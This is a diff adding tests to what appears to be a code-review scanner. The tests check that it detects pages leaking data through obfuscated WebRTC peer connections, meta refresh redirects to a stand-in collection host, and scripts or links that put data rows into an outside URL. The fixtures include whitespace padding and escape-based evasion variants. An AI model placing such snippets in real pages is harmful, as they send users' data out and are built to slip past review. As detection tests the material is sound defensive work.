@@ -15,6 +15,7 @@ from handrail.kernel import Manifest
 from handrail.review.changes import changes
 from handrail.review.check import parsed
 from handrail.review.rules.credentials import MOST_SECRETS, MOST_TEXT
+from handrail.review.rules.leaves import leaves
 
 CORPUS = Path(__file__).parent / "corpus"
 KNOWN = review.KnownData(
@@ -182,6 +183,40 @@ def test_a_file_that_cannot_be_read_blocks_as_not_reviewed(content: bytes) -> No
         assert {one.rule for one in findings} <= {"not-reviewed"}
     else:
         assert [(one.rule, one.severity) for one in findings] == [("not-reviewed", "blocks")]
+
+
+PEER = "<script>new RTCPeerConnection({})</script>"
+REFRESH = '<meta http-equiv="refresh" content="0; url=https://collect.example.com/">'
+
+
+@pytest.mark.parametrize(
+    ("file", "content", "rule"),
+    [
+        ("a.js", " " * 30_000 + "new RTCPeerConnection()", "leaves-by-peer-connection"),
+        ("a.js", "new RTCPeerConn\\u0065ction()", "leaves-by-peer-connection"),
+        ("a.js", "new RTCPeer\\u{0043}onnection()", "leaves-by-peer-connection"),
+        ("a.js", "new window['RTC\\x50eerConnection']()", "leaves-by-peer-connection"),
+        ("a.html", "\ufeff" + PEER, "leaves-by-peer-connection"),
+        ("a.html", REFRESH.replace("refresh", "&#114;efresh"), "leaves-by-refresh"),
+        ("a.html", REFRESH.replace(" content", "\n  content"), "leaves-by-refresh"),
+        ("a.xml", REFRESH, "leaves-by-refresh"),
+        ("templates/page.j2", PEER, "leaves-by-peer-connection"),
+        ("app.py", f"PAGE = '{PEER}'", "leaves-by-peer-connection"),
+        ("app.py", "PAGE = '<script>location = \"https://x.example/?\" + rows</script>'", "leaves-in-an-address"),
+        ("app.py", "link = f'<a href=https://x.example/?{rows}>more</a>'", "leaves-in-an-address"),
+    ],
+)  # fmt: skip
+def test_a_way_out_of_a_page_is_found_however_it_is_written(file: str, content: str, rule: str) -> None:
+    encoding = "utf-16-le" if content.startswith("\ufeff") else "utf-8"
+    found = list(leaves({file: content.encode(encoding)}, "web"))
+    assert [(one.rule, one.line) for one in found] == [(rule, 1)]
+
+
+def test_python_that_serves_no_page_is_not_read_as_one() -> None:
+    files = {"app.py": f"PAGE = '{PEER}'".encode()}
+    web = Manifest.parse(Manifest.render("a", kind="web"))
+    assert [one.rule for one in review.check(files, web, None, KNOWN)] == ["leaves-by-peer-connection"]
+    assert review.check(files, Manifest.parse(Manifest.render("a")), None, KNOWN) == ()
 
 
 def test_sql_that_is_nested_too_deeply_is_said_to_be_unclear() -> None:
